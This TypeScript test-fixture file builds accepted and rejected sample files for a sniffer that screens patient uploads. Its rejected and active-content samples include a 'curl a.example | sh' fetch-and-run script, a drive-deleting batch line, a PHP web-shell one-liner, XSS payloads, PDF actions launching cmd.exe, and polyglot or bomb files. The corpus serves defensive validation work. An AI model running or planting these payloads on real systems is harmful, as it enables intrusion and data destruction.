import { deflateRawSync, deflateSync } from 'node:zlib';
import type { RecognizedFile } from '../../../supabase/functions/send-contact-email/sniff.ts';
import {
  bomb,
  jpegFrame,
  jpegOf,
  jpegScan,
  jpegSegment,
  jpegWith,
  latin1,
  objectStream,
  pdfWith,
  pngChunk,
  pngHeader,
  pngImage,
  pngOf,
  pngWith,
  samsungBlocks,
  video,
  videoBox,
  zipArchive,
} from './files.ts';

/** A file, and what it is; null when it must be refused. */
export interface CorpusFile {
  name: string;
  bytes: Buffer;
  expected: RecognizedFile | null;
}

const pdf: RecognizedFile = { kind: 'pdf', hasActiveContent: false };
const activePdf: RecognizedFile = { kind: 'pdf', hasActiveContent: true };
const jpg: RecognizedFile = { kind: 'jpg', hasActiveContent: false };
const png: RecognizedFile = { kind: 'png', hasActiveContent: false };

const named = (expected: RecognizedFile | null, files: Readonly<Record<string, Buffer>>): CorpusFile[] =>
  Object.entries(files).map(([name, bytes]) => ({ name, bytes, expected }));

const joined = (...pieces: readonly (Buffer | string)[]): Buffer =>
  Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? latin1(piece) : piece)));

const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

const plainPdf = pdfWith();
const plainJpeg = jpegWith();
const plainPng = pngWith();
const html = '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const program = joined('MZ\x90\x00', Buffer.alloc(60), 'PE\x00\x00', Buffer.alloc(400));
const rar = joined('Rar!\x1a\x07\x01\x00', Buffer.alloc(40));
const sevenZip = joined('7z\xbc\xaf\x27\x1c\x00\x04', Buffer.alloc(40));
const filler = Buffer.alloc(70_000, 'x');

const comment = (text: string): Buffer => jpegSegment(0xfe, latin1(text));
const exif = jpegSegment(0xe1, joined('Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00'));
const xmp = '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta><?xpacket end="w"?>';
const scanning = (data: string): Buffer => jpegOf(jpegFrame(), jpegScan(latin1(data)));

const action = (words: string): Buffer =>
  pdfWith({ root: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /Type /Action ${words} >> >>` });

/** What patients send. */
const accepted: readonly CorpusFile[] = [
  ...named(pdf, {
    'PDF with a table': plainPdf,
    'PDF with a cross-reference stream': pdfWith({ hasStream: true }),
    'PDF with line ends of Windows': pdfWith({ lineEnd: '\r\n' }),
    'PDF with line ends of old Macs': pdfWith({ lineEnd: '\r' }),
    'PDF without a binary comment': pdfWith({ header: '' }),
    'PDF after line breaks': pdfWith({ before: '\r\n\r\n' }),
    'PDF before line breaks': joined(plainPdf, '\r\n\r\n'),
    'PDF before zeros': joined(plainPdf, Buffer.alloc(2048)),
    'PDF without a line break at its end': plainPdf.subarray(0, -1),
    'PDF with a form': pdfWith({
      root: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>',
      objects: ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 9 9] >>'],
    }),
    'PDF with a form that is sent by a button': pdfWith({ objects: ['<< /S /SubmitForm /F (https://a.example) >>'] }),
    'PDF with a link': pdfWith({ objects: ['<< /Subtype /Link /A << /S /URI /URI (https://a.example) >> >>'] }),
    'PDF that opens at a page': action('/S /GoTo /D [3 0 R /Fit]'),
    'PDF with bookmarks before a page': pdfWith({
      objects: ['<< /Type /Outlines /First 5 0 R /Count 1 >>', ['/Filter /FlateDecode', deflateSync(latin1('q Q'))]],
    }),
    'PDF with bookmarks before a photograph': pdfWith({
      objects: ['<< /Type /Outlines /First 5 0 R /Count 1 >>', ['/Filter /DCTDecode', plainJpeg]],
    }),
    'PDF with compressed objects': pdfWith({
      objects: [objectStream(['<< /Type /Font >>', '<< /S /URI /URI (https://a.example) >>'])],
      hasStream: true,
    }),
    'PDF with a photograph': pdfWith({ objects: [['/Subtype /Image /Filter /DCTDecode', plainJpeg]] }),
    'PDF with a description': pdfWith({ objects: [['/Type /Metadata /Subtype /XML', latin1(xmp)]] }),
    'PDF with formatted notes': pdfWith({
      objects: ['<< /RC (<?xml version="1.0"?><body xmlns="http://www.w3.org/1999/xhtml"><p>Hi</p></body>) >>'],
    }),
    'PDF with names like those of scripts': pdfWith({ objects: ['<< /JavaScriptFont 1 /Launcher 2 /Soundness 3 >>'] }),
    'PDF with a name that is escaped': pdfWith({ objects: ['<< /BaseFont /Times#20New#20Roman >>'] }),
    'PDF with a digital signature': pdfWith({ objects: ['<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>'] }),
  }),
  ...named(jpg, {
    'JPEG without metadata': plainJpeg,
    'JPEG with JFIF': jpegWith(jpegSegment(0xe0, latin1('JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00'))),
    'JPEG with Exif': jpegWith(exif),
    'JPEG with a thumbnail': jpegWith(jpegSegment(0xe1, joined('Exif\x00\x00', plainJpeg))),
    'JPEG with XMP': jpegWith(jpegSegment(0xe1, latin1(`http://ns.adobe.com/xap/1.0/\x00${xmp}`))),
    'JPEG with a color profile': jpegWith(jpegSegment(0xe2, joined('ICC_PROFILE\x00\x01\x01', Buffer.alloc(300, 9)))),
    'JPEG with a comment': jpegWith(comment('Created with GIMP, quality > 90, size < 2 MB')),
    'progressive JPEG': jpegOf(jpegFrame(0xc2), jpegScan(), comment('between'), jpegScan()),
    'JPEG with restart markers and stuffed bytes': scanning('\x01\xff\x00\x02\xff\xd0\x03\xff\xd7\x04'),
    'JPEG with fill bytes before a marker': jpegOf(latin1('\xff\xff'), jpegFrame(), jpegScan(latin1('\x01\xff\xff'))),
    'JPEG whose pixels spell <sVg': scanning('\x80\x81<sVg\x82<HtML\x90\x91<iMg\x01\x02'),
    'JPEG before zeros': joined(plainJpeg, Buffer.alloc(4096)),
    'JPEG before a line break': joined(plainJpeg, '\r\n'),
    'JPEG with a second picture (MPF)': joined(plainJpeg, Buffer.alloc(100), plainJpeg),
    'JPEG with a gain map (Ultra HDR)': joined(plainJpeg, jpegWith(exif)),
    'JPEG with a video (motion photo)': joined(plainJpeg, video),
    'JPEG with a gain map and a video': joined(plainJpeg, plainJpeg, video),
    'JPEG of a Samsung phone': joined(plainJpeg, samsungBlocks([0x0a01, 'Image_UTC_Data', latin1('1790000000000')])),
    'JPEG of a Samsung phone with a video': joined(
      plainJpeg,
      samsungBlocks([0x0a01, 'Image_UTC_Data', latin1('1790000000000')], [0x0a30, 'MotionPhoto_Data', video]),
    ),
  }),
  ...named(png, {
    'gray PNG': plainPng,
    'PNG with 16 bits and alpha': pngOf(pngHeader(16, 6), pngImage, pngChunk('IEND')),
    'interlaced PNG': pngOf(pngHeader(8, 2, 1), pngImage, pngChunk('IEND')),
    'PNG with a palette': pngOf(pngHeader(1, 3), pngChunk('PLTE', Buffer.alloc(6)), pngImage, pngChunk('IEND')),
    'PNG with text': pngWith(pngChunk('tEXt', latin1('Title\x00Prescription of José'))),
    'PNG with XMP': pngWith(pngChunk('iTXt', latin1(`XML:com.adobe.xmp\x00\x00\x00\x00\x00${xmp}`))),
    'PNG in several parts': pngOf(
      pngHeader(),
      pngImage,
      pngChunk('IDAT', Buffer.alloc(9)),
      pngChunk('tIME', Buffer.alloc(7)),
      pngChunk('IEND'),
    ),
    'PNG whose pixels spell <sVg': pngWith(pngChunk('IDAT', latin1('\x78\x9c<sVg\x80\x81<?PhP\x80<HtMl\x99'))),
    'animated PNG': pngWith(pngChunk('acTL', Buffer.alloc(8)), pngChunk('fcTL', Buffer.alloc(26))),
    'PNG before zeros': joined(plainPng, Buffer.alloc(512)),
  }),
];

/** What may hurt who opens it outside a viewer. */
const withActiveContent = named(activePdf, {
  'PDF with a script': action('/S /JavaScript /JS (app.alert(1))'),
  'PDF with a script of which a rendition is told': action('/S /Rendition /JS (app.alert(1))'),
  'PDF with a script by name': pdfWith({ root: '<< /Pages 2 0 R /Names << /JavaScript << /Names [] >> >> >>' }),
  'PDF with a script whose name is escaped': action('/S /J#61v#61Script /JS (app.alert(1))'),
  'PDF with a script whose name is all escaped': action('/S /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (app.alert(1))'),
  'PDF with a script on a field': pdfWith({ objects: ['<< /FT /Tx /AA << /K << /S/JavaScript/JS 5 0 R>> >> >>'] }),
  'PDF that starts a program': action('/S /Launch /F (cmd.exe)'),
  'PDF that starts a program, escaped': action('/S /L#61unch /Win << /F (cmd.exe) >>'),
  'PDF with a file': pdfWith({ objects: [['/Type /EmbeddedFile', program]] }),
  'PDF with an archive': pdfWith({ objects: [['/Type /EmbeddedFile', deflateSync(zipArchive())]] }),
  'PDF with files by name': pdfWith({ root: '<< /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>' }),
  'PDF with a file on a page': pdfWith({ objects: ['<< /Subtype /FileAttachment /FS 5 0 R >>'] }),
  'PDF that opens another': action('/S /GoToR /F (//host/share/a.pdf)'),
  'PDF that opens one inside': action('/S /GoToE /T << /R /C /N (a.pdf) >>'),
  'PDF with a film': pdfWith({ objects: ['<< /Subtype /RichMedia >>'] }),
  'PDF with a sound': action('/S /Sound /Sound 4 0 R'),
  'PDF with a form with scripts': pdfWith({ root: '<< /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>' }),
  'PDF that loads form data': action('/S /ImportData /F (a.fdf)'),
  'PDF with a compressed script': pdfWith({
    objects: [objectStream(['<< /Type /Font >>', '<< /S /JavaScript /JS (app.alert(1)) >>'])],
    hasStream: true,
  }),
  'PDF with a compressed script, escaped': pdfWith({ objects: [objectStream(['<< /S /J#61vaScript >>'])] }),
  'PDF with a script in a stream of no type': pdfWith({
    objects: [objectStream(['<< /S /JavaScript >>'], '/Filter [/FlateDecode]')],
  }),
  'PDF with a script after a decoy': pdfWith({
    objects: [objectStream(['<< /S /JavaScript >>'], '/Filter /FlateDecode /Note (endobj 9 0 obj)')],
  }),
  'PDF with a script after a false end of its stream': pdfWith({
    objects: [
      [
        '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
        joined('\x78\x9c\x00\x10\x00\xef\xff10 0 (endstream) ', deflateRawSync(latin1('<< /S /JavaScript >>'))),
      ],
    ],
  }),
  'PDF with objects that cannot be opened': pdfWith({
    objects: [['/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', latin1('\x78\x9c')]],
  }),
  'PDF with objects that are compressed twice': pdfWith({
    objects: [['/Type /ObjStm /First 5 /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(latin1('10 0')))]],
  }),
  'PDF with objects in hexadecimal': pdfWith({
    objects: [['/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode', latin1('3130203020')]],
  }),
  'PDF with encrypted objects': pdfWith({
    objects: [['/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', Buffer.alloc(64, 0xa7)], '<< /Encrypt 9 0 R >>'],
  }),
  'PDF with objects that fill the memory': pdfWith({
    objects: [['/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', bomb()]],
  }),
});

/** What pretends, or is of another kind too. */
const rejected = named(null, {
  'empty file': Buffer.alloc(0),
  'one byte': latin1('%'),
  text: latin1('Prescription: OD -2.50'),
  page: latin1(html),
  'page in UTF-16': utf16(html),
  'page after white space and a byte order mark': joined('\xef\xbb\xbf \n', html),
  SVG: latin1(svg),
  'SVG in UTF-16': utf16(svg),
  'SVG after an XML declaration': latin1(`<?xml version="1.0"?>${svg}`),
  'HTML application': latin1('<hta:application><script>x</script>'),
  'Windows program': program,
  'Linux program': joined('\x7fELF', Buffer.alloc(100)),
  'Mac program': joined('\xcf\xfa\xed\xfe', Buffer.alloc(100)),
  'shell script': latin1('#!/bin/sh\ncurl a.example | sh\n'),
  'batch file': latin1('@echo off\r\ndel c:\\\r\n'),
  'PowerShell script': latin1('Invoke-WebRequest https://a.example\r\n'),
  'Windows shortcut': joined('L\x00\x00\x00\x01\x14\x02\x00', Buffer.alloc(100)),
  'Windows metafile': joined('\xd7\xcd\xc6\x9a\x00\x00', Buffer.alloc(100)),
  'Windows help': joined('ITSF\x03\x00\x00\x00', Buffer.alloc(100)),
  'disk image': joined(Buffer.alloc(0x8001), 'CD001', Buffer.alloc(100)),
  'ZIP archive': zipArchive(),
  'Word document': zipArchive('word/document.xml'),
  'RAR archive': rar,
  '7-Zip archive': sevenZip,
  'gzip archive': latin1('\x1f\x8b\x08\x00'),
  'tar archive': joined(Buffer.alloc(257), 'ustar\x0000', Buffer.alloc(247)),
  'cabinet archive': joined('MSCF', Buffer.alloc(60)),
  'old Office document': joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(504)),
  RTF: latin1('{\\rtf1 {\\object}}'),
  PostScript: latin1('%!PS-Adobe-3.0\n'),
  WEBP: latin1('RIFF\x24\x00\x00\x00WEBPVP8 '),
  GIF: latin1('GIF89a\x01\x00\x01\x00\x80\x00\x00'),
  HEIC: latin1('\x00\x00\x00\x18ftypheic'),
  TIFF: latin1('II*\x00\x08\x00\x00\x00'),
  BMP: joined('BM', Buffer.alloc(60)),
  video,
  'PDF header alone': latin1('%PDF-1.7\n'),
  'PDF header before a page': latin1(`%PDF-1.7\n${html}`),
  'PDF header before a program': joined('%PDF-1.7\n', program),
  'PDF header before random bytes and an end': joined('%PDF-1.7\n', filler, 'startxref\n9\n%%EOF\n'),
  'PDF header of no version': latin1(plainPdf.toString('latin1').replace('%PDF-1.7', '%PDF-x.y')),
  'PDF after a page': joined(html, plainPdf),
  'PDF after a program': joined(program, plainPdf),
  'PDF after printer commands': joined('\x1b%-12345X@PJL\r\n', plainPdf),
  'PDF that is cut off': plainPdf.subarray(0, -60),
  'PDF without its end': plainPdf.subarray(0, -7),
  'PDF whose table is elsewhere': latin1(plainPdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7')),
  'PDF whose table is beyond its end': latin1(
    plainPdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999'),
  ),
  'PDF without a root': latin1(plainPdf.toString('latin1').replace('/Root', '/Boot')),
  'PDF without a trailer': latin1(plainPdf.toString('latin1').replace('trailer', 'tractor')),
  'PDF before a ZIP archive': joined(plainPdf, zipArchive()),
  'PDF before a long ZIP archive': joined(plainPdf, filler, zipArchive()),
  'PDF before a ZIP archive with a long comment': joined(plainPdf, zipArchive('a', 'x'.repeat(65_000))),
  'PDF before an archive that ends like a PDF': joined(plainPdf, zipArchive('a', 'startxref\n9\n%%EOF')),
  'PDF around a ZIP archive': pdfWith({ objects: [['', zipArchive()]] }),
  'PDF around a RAR archive': pdfWith({ objects: [['', rar]] }),
  'PDF around a 7-Zip archive': pdfWith({ objects: [['', sevenZip]] }),
  'PDF around a disk image': pdfWith({ header: `%${'x'.repeat(0x8001 - 10)}CD001\n` }),
  'PDF before a RAR archive': joined(plainPdf, rar),
  'PDF before a gzip archive': joined(plainPdf, '\x1f\x8b\x08\x00', Buffer.alloc(40, 3)),
  'PDF before a page': joined(plainPdf, html),
  'PDF before a program': joined(plainPdf, program),
  'PDF before a batch file': joined(plainPdf, '\r\n@echo off\r\n'),
  'PDF with a page in a comment': pdfWith({ header: `%${html}\n` }),
  'PDF with a page in a stream': pdfWith({ objects: [['', latin1(html)]] }),
  'PDF with PHP in a comment': pdfWith({ header: '%<?php system($_GET["c"]); ?>\n' }),
  'JPEG signature alone': latin1('\xff\xd8\xff'),
  'JPEG signature before random bytes': joined('\xff\xd8\xff\xe0', filler),
  'JPEG signature before a page': latin1(`\xff\xd8\xff\xe0${html}`),
  'JPEG without its end': plainJpeg.subarray(0, -2),
  'JPEG without a scan': jpegOf(jpegFrame()),
  'JPEG without a frame': jpegOf(jpegScan()),
  'JPEG with bytes between segments': jpegOf(latin1('xx'), jpegFrame(), jpegScan()),
  'JPEG with a segment beyond its end': joined('\xff\xd8\xff\xe0\xff\xff', Buffer.alloc(100)),
  'JPEG with a PDF in a comment': jpegWith(comment(plainPdf.toString('latin1'))),
  'JPEG with a PDF in its scan': scanning(plainPdf.toString('latin1').replaceAll('\xff', '')),
  'JPEG with a script in a comment': jpegWith(comment(html)),
  'JPEG with a script in the middle': scanning(`${'\x80'.repeat(300)}<ScRiPt>alert(1)</script>${'\x80'.repeat(300)}`),
  'JPEG with an SVG in a comment': jpegWith(comment(svg)),
  'JPEG with an image tag in a comment': jpegWith(comment('<img src=x onerror=alert(1)>')),
  'JPEG with PHP in a comment': jpegWith(comment('<?php __HALT_COMPILER(); ?>')),
  'JPEG with a ZIP archive in a comment': jpegWith(comment(zipArchive().toString('latin1'))),
  'JPEG with a RAR archive in a comment': jpegWith(comment(rar.toString('latin1'))),
  'JPEG before a page': joined(plainJpeg, html),
  'JPEG before a PDF': joined(plainJpeg, plainPdf),
  'JPEG before a ZIP archive': joined(plainJpeg, zipArchive()),
  'JPEG before a long ZIP archive': joined(plainJpeg, filler, zipArchive()),
  'JPEG before a RAR archive': joined(plainJpeg, rar),
  'JPEG before a program': joined(plainJpeg, program),
  'JPEG before zeros and a program': joined(plainJpeg, Buffer.alloc(64), program),
  'JPEG before text': joined(plainJpeg, 'hello'),
  'JPEG before a JPEG that is cut off': joined(plainJpeg, plainJpeg.subarray(0, -2)),
  'JPEG with a video and an archive': joined(plainJpeg, video, zipArchive()),
  'JPEG with an archive in a video': joined(plainJpeg, video, videoBox('mdat', zipArchive())),
  'JPEG with a video box beyond its end': joined(plainJpeg, videoBox('ftyp'), '\x00\x00\xff\xffmdat'),
  'JPEG with an archive in a Samsung block': joined(plainJpeg, samsungBlocks([0x0a01, 'Image', zipArchive()])),
  'JPEG with a page in a Samsung block': joined(plainJpeg, samsungBlocks([0x0a01, 'Image', latin1(html)])),
  'JPEG with a page before Samsung blocks': joined(plainJpeg, html, samsungBlocks([0x0a01, 'Image', latin1('1')])),
  'JPEG with Samsung blocks that are broken': joined(plainJpeg, 'SEFH', Buffer.alloc(20, 1), '\xff\x00\x00\x00SEFT'),
  'JPEG 2000': joined('\x00\x00\x00\x0cjP  \r\n\x87\n', Buffer.alloc(40)),
  'PNG signature alone': latin1('\x89PNG\r\n\x1a\n'),
  'PNG signature before a page': latin1(`\x89PNG\r\n\x1a\n${html}`),
  'PNG without its end': plainPng.subarray(0, -12),
  'PNG with a wrong checksum': joined(plainPng.subarray(0, -1), '\x00'),
  'PNG with another chunk first': pngOf(pngChunk('tEXt'), pngHeader(), pngImage, pngChunk('IEND')),
  'PNG with two headers': pngWith(pngHeader()),
  'PNG with an impossible depth': pngOf(pngHeader(3, 2), pngImage, pngChunk('IEND')),
  'PNG without image data': pngOf(pngHeader(), pngChunk('IEND')),
  'PNG with image data that is not compressed': pngOf(pngHeader(), pngChunk('IDAT', program), pngChunk('IEND')),
  'PNG with a chunk beyond its end': joined(pngOf(pngHeader()), '\x7f\xff\xff\xffIDAT'),
  'PNG with a chunk of no name': pngWith(pngChunk('\x00\x01\x02\x03')),
  'PNG of iOS apps': pngOf(pngChunk('CgBI', Buffer.alloc(4)), pngHeader(), pngImage, pngChunk('IEND')),
  'PNG with a script in its text': pngWith(pngChunk('tEXt', latin1(`Title\x00${html}`))),
  'PNG with an SVG in its text': pngWith(pngChunk('tEXt', latin1(`Title\x00${svg}`))),
  'PNG with a PDF in its text': pngWith(pngChunk('zzZz', plainPdf)),
  'PNG with a ZIP archive in a chunk': pngWith(pngChunk('zzZz', zipArchive())),
  'PNG around a disk image': pngWith(pngChunk('zzZz', joined(Buffer.alloc(0x8001 - 41), 'CD001'))),
  'PNG before a page': joined(plainPng, html),
  'PNG before a PDF': joined(plainPng, plainPdf),
  'PNG before a ZIP archive': joined(plainPng, zipArchive()),
  'PNG before a long ZIP archive': joined(plainPng, filler, zipArchive()),
  'PNG before a program': joined(plainPng, program),
  'PNG before another': joined(plainPng, plainPng),
});

/** Files with what they are, each made here. */
export const corpus = { accepted, withActiveContent, rejected };
